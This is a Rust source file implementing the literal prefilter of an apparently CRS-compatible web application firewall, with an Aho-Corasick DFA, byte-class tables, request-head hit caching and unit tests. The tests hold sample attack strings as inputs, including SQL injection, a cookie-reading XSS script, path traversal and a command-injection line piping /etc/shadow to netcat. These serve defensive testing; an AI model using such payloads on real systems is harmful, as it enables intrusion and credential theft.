//! The rule set's prefilter: one automaton over the required literals of every link, whose
//! hits on a value tell which links may match it. What is remembered of request-head values
//! across transactions is in `known`.

use super::known::{KnownHits, MAX_MEMOS};

/// The prefilter of the whole rule set: every link whose operator has required literals owns
/// a slot; an input's hits are the slots whose literals occur in it.
///
/// One automaton for all links (rather than one per transformation chain) because most
/// values come out of most chains unchanged but for case, and literals match ASCII
/// case-insensitively: then one scan of the raw value answers for every chain.
#[derive(Debug)]
pub(crate) struct Prefilter {
    /// The literals of two bytes or more, walked byte by byte (`hits`): the overlapping
    /// iterator's per-match bookkeeping cost more than the walk itself on short values full
    /// of short literals.
    dfa: aho_corasick::dfa::DFA,
    /// Pattern index of `dfa` → slot (rule link) it belongs to.
    slot_of: Vec<u32>,
    slots: usize,
    /// The slots of each match state, as a few word masks (see `MatchTable`).
    by_state: Option<MatchTable>,
    /// The one-byte literals, out of the automaton (see `ByteTable`).
    by_byte: ByteTable,
    /// The length of the automaton's longest literal (at least 1).
    longest: usize,
    /// Hits of request-head values, for every transaction (see `KnownHits`).
    known: KnownHits,
}

/// The slots every match state of the prefilter's DFA reports, made when the rule set is
/// built: a state's patterns (often several, of one or a few links) become one `or` per
/// 64 slots, instead of a pattern and a slot lookup each in the walk.
#[derive(Debug)]
struct MatchTable {
    /// State ids are multiples of 2^shift (the DFA's stride): `id >> shift` indexes `ranges`.
    shift: u32,
    /// Per state: its range of `masks` (empty for a state that matches nothing; `UNSEEN`
    /// for an id the walk did not meet).
    ranges: Vec<(u32, u32)>,
    /// (word of the hits, bits of it).
    masks: Vec<(u32, u64)>,
}

impl MatchTable {
    /// Walks every state reachable from the start (`patterns`: the bytes they hold, one
    /// representative for all others, which lead where any other does); `None` when the
    /// state ids do not make a dense table (then the walk looks patterns up as it goes).
    fn new(dfa: &aho_corasick::dfa::DFA, patterns: &[Vec<u8>], slot_of: &[u32]) -> Option<Self> {
        use aho_corasick::Anchored;
        use aho_corasick::automaton::Automaton;
        let mut seen = [false; 256];
        for b in patterns.iter().flatten() {
            seen[usize::from(b.to_ascii_lowercase())] = true;
            seen[usize::from(b.to_ascii_uppercase())] = true;
        }
        let mut bytes: Vec<u8> = (0..=255u8).filter(|&b| seen[usize::from(b)]).collect();
        bytes.extend((0..=255u8).find(|&b| !seen[usize::from(b)]));
        let start = dfa.start_state(Anchored::No).ok()?;
        let mut states = std::collections::HashSet::from([start]);
        let mut todo = vec![start];
        while let Some(sid) = todo.pop() {
            for &b in &bytes {
                let next = dfa.next_state(Anchored::No, sid, b);
                if states.insert(next) {
                    todo.push(next);
                }
            }
        }
        let gcd = states
            .iter()
            .fold(0usize, |g, s| num_gcd(g, s.as_usize()))
            .max(1);
        let shift = gcd.trailing_zeros();
        let max = states.iter().map(|s| s.as_usize() >> shift).max()?;
        if max > 4 * states.len() + 16 {
            return None;
        }
        let mut ranges = vec![(UNSEEN, 0); max + 1];
        let mut masks: Vec<(u32, u64)> = Vec::new();
        for &sid in &states {
            let from = masks.len();
            if !dfa.is_match(sid) {
                ranges[sid.as_usize() >> shift] = (from as u32, from as u32);
                continue;
            }
            for i in 0..dfa.match_len(sid) {
                let s = slot_of[dfa.match_pattern(sid, i).as_usize()];
                add_mask(&mut masks, from, s / 64, 1 << (s % 64));
            }
            ranges[sid.as_usize() >> shift] = (from as u32, masks.len() as u32);
        }
        Some(MatchTable {
            shift,
            ranges,
            masks,
        })
    }
}

/// The slots of the one-byte literals (digits, separators, the byte sets of
/// `MAX_SLOT_BYTES`), by byte. In the automaton they made almost every state a match state —
/// every digit and `%` of `%E5%85%B3…` — each match an `or` of masks read from tables as
/// large as the automaton. The walk now only `or`s each byte's class bit into a word (bytes
/// with the same slots share a class), and the classes' masks are added once at the end.
#[derive(Debug, Clone)]
struct ByteTable {
    /// Per byte: the bit of its class, 0 for a byte without slots.
    class: [u64; 256],
    /// Per class: its range of `masks`.
    ranges: Vec<(u32, u32)>,
    /// (word of the hits, bits of it).
    masks: Vec<(u32, u64)>,
}

impl ByteTable {
    /// The table of `(byte, slot)` pairs; a letter also stands for its other case. Beyond 64
    /// classes, the last one also holds the rest: a byte of those then gives the slots of
    /// all of them, more than its own, which costs an operator's look but misses nothing.
    fn new(pairs: impl IntoIterator<Item = (u8, u32)>) -> ByteTable {
        let mut by_byte: Vec<Vec<(u32, u64)>> = vec![Vec::new(); 256];
        for (b, slot) in pairs {
            for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                add_mask(&mut by_byte[usize::from(b)], 0, slot / 64, 1 << (slot % 64));
            }
        }
        let mut classes: Vec<Vec<(u32, u64)>> = Vec::new();
        let mut class = [0u64; 256];
        for (b, mut list) in by_byte.into_iter().enumerate() {
            if list.is_empty() {
                continue;
            }
            list.sort_unstable();
            let c = match classes.iter().position(|c| *c == list) {
                Some(c) => c,
                None if classes.len() < 64 => {
                    classes.push(list);
                    classes.len() - 1
                }
                None => {
                    let last = classes.last_mut().expect("64 classes");
                    for (w, mask) in list {
                        add_mask(last, 0, w, mask);
                    }
                    63
                }
            };
            class[b] = 1 << c;
        }
        let mut table = ByteTable {
            class,
            ranges: Vec::new(),
            masks: Vec::new(),
        };
        for list in classes {
            let from = table.masks.len() as u32;
            table.masks.extend(list);
            table.ranges.push((from, table.masks.len() as u32));
        }
        table
    }

    /// Adds the slots of the classes in `seen` to `words`.
    fn add(&self, mut seen: u64, words: &mut [u64]) {
        while seen != 0 {
            let (from, to) = self.ranges[seen.trailing_zeros() as usize];
            seen &= seen - 1;
            or_masks(&self.masks[from as usize..to as usize], words);
        }
    }
}

/// Values of at least this many bytes are walked as two halves at once (see `hits`).
const SPLIT_WALK: usize = 64;

/// Adds `mask` to word `w` of a list of (word, bits) pairs, the list being `list[from..]`
/// (the table's lists share one `Vec`).
fn add_mask(list: &mut Vec<(u32, u64)>, from: usize, w: u32, mask: u64) {
    match list[from..].iter_mut().find(|(word, _)| *word == w) {
        Some((_, m)) => *m |= mask,
        None => list.push((w, mask)),
    }
}

/// Ors a list of (word, bits) pairs into the words of some hits.
#[inline]
fn or_masks(masks: &[(u32, u64)], words: &mut [u64]) {
    for &(w, mask) in masks {
        words[w as usize] |= mask;
    }
}

/// `MatchTable::ranges` of an id that is no state the walk met.
const UNSEEN: u32 = u32::MAX;

fn num_gcd(a: usize, b: usize) -> usize {
    if b == 0 { a } else { num_gcd(b, a % b) }
}

impl Prefilter {
    /// The slots whose literals occur in `value`.
    pub fn hits(&self, value: &[u8]) -> Hits {
        use aho_corasick::Anchored;
        use aho_corasick::automaton::Automaton;
        let mut hits = Hits::empty(self.slots);
        let words = hits.words_mut();
        let dfa = &self.dfa;
        let Ok(start) = dfa.start_state(Anchored::No) else {
            // Cannot happen (the DFA is built unanchored); every slot then passes.
            words.fill(u64::MAX);
            return hits;
        };
        let mut seen = 0u64;
        // Each step of a walk waits for the load of the one before (from tables of
        // megabytes): a long value is walked as two halves at once, whose loads overlap. The
        // second half starts `longest - 1` bytes early, so that it meets every literal that
        // ends in it from its first byte; literals that end in the first half are the first
        // walk's.
        let (first, second) = if value.len() >= SPLIT_WALK {
            let mid = value.len() / 2;
            (&value[..mid], &value[mid - (self.longest - 1).min(mid)..])
        } else {
            (value, &[][..])
        };
        let (mut a, mut b) = (start, start);
        // The second is at least as long as the first.
        let (lead, rest) = second.split_at(second.len().min(first.len()));
        for (&x, &y) in first.iter().zip(lead) {
            seen |= self.by_byte.class[usize::from(x)] | self.by_byte.class[usize::from(y)];
            a = dfa.next_state(Anchored::No, a, x);
            b = dfa.next_state(Anchored::No, b, y);
            if dfa.is_special(a) {
                self.add_state(a, words);
            }
            if dfa.is_special(b) {
                self.add_state(b, words);
            }
        }
        // What is left: the whole value when it was not split, or the second half's rest.
        let (mut sid, tail) = if second.is_empty() {
            (a, first)
        } else {
            (b, rest)
        };
        for &x in tail {
            seen |= self.by_byte.class[usize::from(x)];
            sid = dfa.next_state(Anchored::No, sid, x);
            if dfa.is_special(sid) {
                self.add_state(sid, words);
            }
        }
        self.by_byte.add(seen, words);
        hits
    }

    /// Adds the slots of a special state of the automaton to `words` (only match states have
    /// any).
    #[inline]
    fn add_state(&self, sid: aho_corasick::automaton::StateID, words: &mut [u64]) {
        use aho_corasick::automaton::Automaton;
        let dfa = &self.dfa;
        if !dfa.is_match(sid) {
            return;
        }
        let known = self.by_state.as_ref().and_then(|table| {
            let &(from, to) = table.ranges.get(sid.as_usize() >> table.shift)?;
            (from != UNSEEN).then(|| &table.masks[from as usize..to as usize])
        });
        match known {
            Some(masks) => or_masks(masks, words),
            // A state the table does not list (cannot happen: every reachable state is
            // walked): its patterns, one by one.
            None => {
                for i in 0..dfa.match_len(sid) {
                    let s = self.slot_of[dfa.match_pattern(sid, i).as_usize()] as usize;
                    words[s / 64] |= 1 << (s % 64);
                }
            }
        }
    }

    /// The hits of a request-head value of at most [`KNOWN_HITS_MAX`] bytes, whose
    /// fingerprint (`KnownHits::fingerprint`) is `fingerprint`: kept across transactions.
    pub fn head_hits(&self, value: &[u8], fingerprint: u64) -> Hits {
        if let Some(hits) = self.known.get(fingerprint, self.slots) {
            return hits;
        }
        let hits = self.hits(value);
        self.known.put(fingerprint, &hits);
        hits
    }

    /// What is known of request-head values across transactions.
    pub fn known(&self) -> &KnownHits {
        &self.known
    }

    pub fn slots(&self) -> usize {
        self.slots
    }
}

/// Slots up to this many are kept inline (CRS v4 has about 260).
const INLINE_SLOTS: usize = 512;

/// A bitset of prefilter slots; up to [`INLINE_SLOTS`] without allocation.
#[derive(Debug, Clone)]
pub(crate) enum Hits {
    Small([u64; INLINE_SLOTS / 64]),
    Large(Box<[u64]>),
}

impl Hits {
    pub fn empty(slots: usize) -> Hits {
        if slots > INLINE_SLOTS {
            Hits::Large(vec![0u64; slots.div_ceil(64)].into_boxed_slice())
        } else {
            Hits::Small([0; INLINE_SLOTS / 64])
        }
    }

    pub(super) fn words(&self) -> &[u64] {
        match self {
            Hits::Small(w) => w,
            Hits::Large(w) => w,
        }
    }

    pub(super) fn words_mut(&mut self) -> &mut [u64] {
        match self {
            Hits::Small(w) => w,
            Hits::Large(w) => w,
        }
    }

    /// Adds `other`'s slots to these (both come from the same rule set, so have one size).
    pub fn union(&mut self, other: &Hits) {
        for (x, y) in self.words_mut().iter_mut().zip(other.words()) {
            *x |= y;
        }
    }

    pub fn contains(&self, slot: u32) -> bool {
        let s = slot as usize;
        self.words()
            .get(s / 64)
            .is_some_and(|w| w & (1 << (s % 64)) != 0)
    }
}

/// Literals are cut to this many bytes for the rule set's prefilter (see `assign_slots`):
/// CRS's ~11,000 literals make a DFA of ~84 MB whole, ~8 MB cut to 8 bytes and ~4.5 MB cut to
/// 6. At 6 a CRS rule set takes 3.6 MB less than at 8 for the same instructions and time per
/// request (measured on the benchmark's five requests); at 4 (2.5 MB) more links pass the
/// filter for nothing and a clean GET is slower.
const PREFIX_BYTES: usize = 6;

/// The prefilter being built: patterns, the slot of each pattern, number of slots.
#[derive(Default)]
pub(super) struct RawPrefilter {
    patterns: Vec<Vec<u8>>,
    slot_of: Vec<u32>,
    slots: usize,
}

/// A link whose operator has no literals but a byte set (`RuleOperator::bytes`) of at most
/// this many bytes gets a slot too, each byte a one-byte literal: then the unions tell
/// whether any value holds one of them, and the link is skipped without a look at a value
/// (CRS's command-injection rules, whose byte sets are command separators).
pub(crate) const MAX_SLOT_BYTES: usize = 16;

/// Gives each link whose operator depends on its input alone a bit in `KnownHits`.
pub(super) fn assign_memos(rule: &mut crate::rule::Rule, memos: &mut u32) {
    let mut link = Some(rule);
    while let Some(r) = link {
        if let Some(op) = &mut r.operator
            && matches!(op.op.depends_on(), Some(None))
            && *memos < MAX_MEMOS
        {
            op.memo = *memos;
            *memos += 1;
        }
        link = r.chain.as_deref_mut();
    }
}

pub(super) fn assign_slots(rule: &mut crate::rule::Rule, raw: &mut RawPrefilter) {
    let mut link = Some(rule);
    while let Some(r) = link {
        let bytes: Vec<Vec<u8>> = match r.operator.as_ref().and_then(|op| op.bytes.as_ref()) {
            Some(set) if set.bytes().count() <= MAX_SLOT_BYTES => {
                set.bytes().map(|b| vec![b]).collect()
            }
            _ => Vec::new(),
        };
        if let Some(op) = &r.operator
            && (!op.literals.is_empty() || !bytes.is_empty())
        {
            let slot = raw.slots as u32;
            raw.slots += 1;
            // A value holding a literal holds each of its prefixes: cut to a few bytes, the
            // literals share prefixes, which keeps the automaton small enough to be a DFA.
            let mut cut: Vec<&[u8]> = op
                .literals
                .iter()
                .chain(&bytes)
                .map(|l| &l[..l.len().min(PREFIX_BYTES)])
                .collect();
            cut.sort_unstable_by_key(|l| l.to_ascii_lowercase());
            cut.dedup_by(|a, b| a.eq_ignore_ascii_case(b));
            for l in cut {
                raw.patterns.push(l.to_vec());
                raw.slot_of.push(slot);
            }
            r.slot = Some(slot);
        }
        link = r.chain.as_deref_mut();
    }
}

impl RawPrefilter {
    /// Whether no link has a slot.
    pub(super) fn is_empty(&self) -> bool {
        self.slots == 0
    }

    /// The prefilter of these patterns, with a `KnownHits` of `memos` operator bits; `None`
    /// when its automaton would be too large.
    pub(super) fn build(self, memos: u32) -> Option<Prefilter> {
        let (single, longer): (Vec<_>, Vec<_>) = self
            .patterns
            .into_iter()
            .zip(self.slot_of)
            .partition(|(p, _)| p.len() == 1);
        let (patterns, slot_of): (Vec<Vec<u8>>, Vec<u32>) = longer.into_iter().unzip();
        let dfa = aho_corasick::dfa::Builder::new()
            .ascii_case_insensitive(true)
            .match_kind(aho_corasick::MatchKind::Standard)
            .start_kind(aho_corasick::StartKind::Unanchored)
            .build(&patterns)
            .ok()?;
        Some(Prefilter {
            longest: patterns.iter().map(Vec::len).max().unwrap_or(1),
            by_state: MatchTable::new(&dfa, &patterns, &slot_of),
            by_byte: ByteTable::new(single.into_iter().map(|(p, slot)| (p[0], slot))),
            known: KnownHits::new(self.slots, memos),
            dfa,
            slot_of,
            slots: self.slots,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Engine;

    #[test]
    fn match_table_gives_the_pattern_walks_hits() {
        let engine = Engine::builtin();
        let p = engine.rules().prefilter.as_ref().unwrap();
        assert!(p.by_state.is_some());
        let plain = Prefilter {
            dfa: p.dfa.clone(),
            slot_of: p.slot_of.clone(),
            slots: p.slots,
            by_state: None,
            by_byte: p.by_byte.clone(),
            longest: p.longest,
            known: KnownHits::new(p.slots, 0),
        };
        let inputs = [
            &b""[..],
            b"/news/2026/11/index.html",
            b"1' UNION SELECT password FROM users--",
            b"<script>alert(document.cookie)</script>",
            b"../../etc/passwd",
            b";cat /etc/shadow | nc 10.0.0.1 80",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            "\u{7b2c}1\u{53f7}\u{901a}\u{77e5}".as_bytes(),
            b"\\x00\\xff%00%u0027 OR 1=1 # <svg onload=x> javascript:eval(1)",
        ];
        let mut found = 0;
        for input in inputs {
            let (a, b) = (p.hits(input), plain.hits(input));
            assert_eq!(a.words(), b.words(), "{:?}", String::from_utf8_lossy(input));
            found += a.words().iter().map(|w| w.count_ones()).sum::<u32>();
        }
        assert!(found > 10, "the inputs hit some slots: {found}");
    }

    #[test]
    fn hits_are_the_slots_whose_literals_occur_in_the_value() {
        // Literals of one to six bytes (one-byte ones go to the byte table, the others to
        // the automaton), several per slot, letters in either case; checked against a
        // search for each literal, ASCII case aside.
        let mut random = crate::xorshift(0x9e37_79b9_7f4a_7c15);
        let mut next = move |n: usize| (random() % n as u64) as usize;
        const ALPHABET: &[u8] = b"aAbB%5e\xE5\x80/ .";
        let mut raw = RawPrefilter::default();
        for slot in 0..150u32 {
            for _ in 0..1 + next(3) {
                let one = next(3) == 0;
                let len = 1 + next(if one { 1 } else { 6 });
                raw.patterns
                    .push((0..len).map(|_| ALPHABET[next(ALPHABET.len())]).collect());
                raw.slot_of.push(slot);
            }
        }
        raw.slots = 150;
        let literals: Vec<(Vec<u8>, u32)> = raw
            .patterns
            .iter()
            .cloned()
            .zip(raw.slot_of.iter().copied())
            .collect();
        let p = raw.build(0).unwrap();
        assert!(p.by_byte.masks.len() > 10, "one-byte literals in the table");
        let mut hit = 0;
        for _ in 0..3000 {
            // Some long enough to be walked in two halves (`SPLIT_WALK`).
            let long = next(4) == 0;
            let value: Vec<u8> = (0..next(if long { 200 } else { 24 }))
                .map(|_| ALPHABET[next(ALPHABET.len())])
                .collect();
            let mut want = Hits::empty(p.slots);
            let lower = value.to_ascii_lowercase();
            for (l, slot) in &literals {
                let l = l.to_ascii_lowercase();
                if lower.windows(l.len()).any(|w| w == l.as_slice()) {
                    want.words_mut()[*slot as usize / 64] |= 1 << (slot % 64);
                }
            }
            let got = p.hits(&value);
            assert_eq!(
                got.words(),
                want.words(),
                "{:?}",
                String::from_utf8_lossy(&value)
            );
            hit += got.words().iter().map(|w| w.count_ones()).sum::<u32>();
        }
        assert!(hit > 3000, "the values hit slots: {hit}");
    }

    #[test]
    fn a_byte_beyond_64_classes_still_gives_its_slots() {
        // 200 bytes, each with a slot of its own: 200 classes would be needed.
        let table = ByteTable::new((0..200u8).map(|b| (b, u32::from(b))));
        for b in 0..=255u8 {
            let mut words = [0u64; 4];
            table.add(table.class[usize::from(b)], &mut words);
            for own in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                if own < 200 {
                    assert!(words[usize::from(own / 64)] & 1 << (own % 64) != 0, "{b}");
                }
            }
        }
        // Bytes in the first 64 classes give exactly their own slots.
        let mut words = [0u64; 4];
        table.add(table.class[usize::from(b'0')], &mut words);
        assert_eq!(words, [1 << b'0', 0, 0, 0]);
        assert_eq!(table.class[250], 0, "a byte without slots has no class");
    }
}
